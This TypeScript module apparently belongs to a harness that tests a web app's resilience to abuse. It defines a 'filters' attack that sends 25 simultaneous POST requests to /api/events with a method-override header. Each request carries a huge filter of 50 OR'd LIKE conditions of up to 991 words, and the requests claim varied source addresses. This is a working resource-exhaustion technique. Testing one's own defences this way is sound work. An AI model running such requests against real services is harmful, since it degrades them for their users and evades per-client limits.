import { repeat } from './repeat.ts'
import { type Attack, from } from './types.ts'

const words = (count: number) =>
  Array.from({ length: count }, (_, index) => `word${index}`).join(' ')

/** 50 conditions of so many words: the statement compares each word with each event. */
const anyOf = (field: string, count: number) =>
  JSON.stringify({ or: Array.from({ length: 50 }, () => ({ [field]: { like: words(count) } })) })

const wheres = [
  anyOf('title', 991),
  anyOf('title', 40),
  anyOf('description', 21),
  JSON.stringify({ description: { like: words(9) } }),
]

/** By method override: a `where` of that length does not fit into an address. */
const filterBy = (where: string, address: string) => ({
  path: '/api/events',
  method: 'POST',
  headers: {
    'Content-Type': 'application/x-www-form-urlencoded',
    'X-Payload-HTTP-Method-Override': 'GET',
    ...from(address),
  },
  body: new URLSearchParams({ where }).toString(),
})

export const filters: Attack = {
  name: 'filters',
  title: 'Filters of 50 conditions with up to 991 words each, 25 at once',
  run: (context) =>
    repeat(context, 25, (index) =>
      filterBy(wheres[index % wheres.length]!, `198.51.100.${index % 250}`),
    ),
}
